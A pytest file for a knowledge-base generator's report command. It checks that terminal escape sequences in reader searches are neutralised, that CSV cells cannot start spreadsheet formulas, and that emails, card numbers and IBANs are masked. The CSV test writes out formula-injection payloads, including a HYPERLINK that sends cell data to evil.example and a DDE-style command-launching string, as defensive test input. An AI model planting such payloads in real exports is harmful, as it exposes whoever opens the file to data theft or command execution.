"""What readers type reaches the owner's terminal and files harmless (issue 18): no control character drives the
terminal, no CSV cell starts a spreadsheet formula, and personal data is masked in every field carrying reader
text (searches, and the page address of clicks and votes)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
from conftest import run

from kbgen.events.privacy import mask

KB = {
    "kbgen.yml": "site_name: Help\n",
    "content/billing/refunds.md": "---\ntitle: Refunds\nupdated: 2026-11-01\n---\nHow to get a refund.\n",
    "content/kb/12345.md": "---\ntitle: Update 12345\nupdated: 2026-11-01\n---\nAn article whose address has a "
                           "number in it.\n",
}
FORMATS = ("table", "json", "csv", "md", "html")


def beacon(query: str) -> str:
    return f'203.0.113.9 - - [20/Nov/2026:10:00:00 +0000] "GET /_kb/e.gif?{query}&v=1 HTTP/1.1" 200 43 "-" "UA"\n'


def search(text: str) -> str:
    return beacon(f"e=search&q={quote(text, safe='')}&n=0&l=en")


def report_process(root: Path, *args: str) -> str:
    """`kbgen report ARGS` as its own process, printing to a terminal-like pipe: what the owner's terminal gets."""
    done = subprocess.run([sys.executable, "-m", "kbgen", "report", *args], cwd=root, capture_output=True,
                          timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout.decode("utf-8") + done.stderr.decode("utf-8")


def test_terminal_escapes_in_searches_reach_no_output(kb, tmp_path: Path) -> None:
    kb(KB)
    log = tmp_path / "access.log"
    log.write_text(search("\x1b[2Jcleared") + search("bell\x07 \x1b]0;owned\x07 title")
                   + search("csi\u009b31m red") + search("rtl \u202eevil") + search("nul\x00byte"), encoding="utf-8")

    for fmt in FORMATS:
        out = report_process(kb.root, str(log), "--format", fmt)
        controls = sorted({f"U+{ord(c):04X}" for c in out if (ord(c) < 0x20 and c not in "\n")
                           or 0x7F <= ord(c) < 0xA0 or c == "\u202e"})
        assert controls == [], (fmt, controls)
        assert "␛[2Jcleared" in out or "\\u241b[2Jcleared" in out, fmt
    data = json.loads(report_process(kb.root, str(log), "--format", "json"))
    assert {q["query"] for q in data["zero_result_queries"]} >= {"␛[2Jcleared", "nul␀byte", "rtl \ufffdevil"}


def test_csv_cells_never_start_a_spreadsheet_formula(kb, tmp_path: Path) -> None:
    kb(KB)
    log = tmp_path / "access.log"
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
    log.write_text("".join(search(f) for f in formulas), encoding="utf-8")

    result = run("report", str(log), "--format", "csv")

    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    items = {row[1] for row in rows[1:] if row[0] == "zero_result"}
    assert len(items) == len(formulas)
    assert all(item.startswith("'") for item in items), items
    assert "'=HYPERLINK(" in result.stdout and "'-2+3" in result.stdout
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


@pytest.mark.parametrize(("text", "masked"), [
    ("mail bob@localhost now", "mail [email] now"),
    ("card4111111111111111 please", "card[number] please"),
    ("card4111 1111 1111 1111x", "card[number]x"),
    ("pay to DE89 3704 0044 0532 0130 00 today", "pay to [iban] today"),
    ("iban GB82WEST12345698765432", "iban [iban]"),
    ("KB5034441 will not install", "KB5034441 will not install"),  # a product code readers search for
    ("ab12 cdef ghij klmn opqr", "ab12 cdef ghij klmn opqr"),  # IBAN-shaped, wrong check digits
])
def test_masking_finds_what_it_missed(text: str, masked: str) -> None:
    assert mask(text) == masked


def test_the_address_of_clicks_and_votes_is_masked_and_still_matches_its_article(kb, tmp_path: Path) -> None:
    kb(KB)
    log = tmp_path / "access.log"
    addresses = ["bob@example.com", "card 4111111111111111/", "DE89370400440532013000", "kb/12345/"]
    log.write_text("".join(beacon(f"e=vote&u={quote(u, safe='')}&h=0") for u in addresses)
                   + beacon("e=click&q=update&u=anna%40localhost&r=1"), encoding="utf-8")

    for fmt in FORMATS:
        out = report_process(kb.root, str(log), "--format", fmt)
        for secret in ("bob@", "example.com", "4111", "DE89", "0532", "anna@"):
            assert secret not in out, (fmt, secret)
    data = json.loads(report_process(kb.root, str(log), "--format", "json"))
    unhelpful = {a["url"]: a["title"] for a in data["unhelpful_articles"]}
    assert unhelpful["kb/12345/"] == "Update 12345"  # the real article, found again after masking
    assert {"[email]", "card [number]/", "[iban]"} <= set(unhelpful)
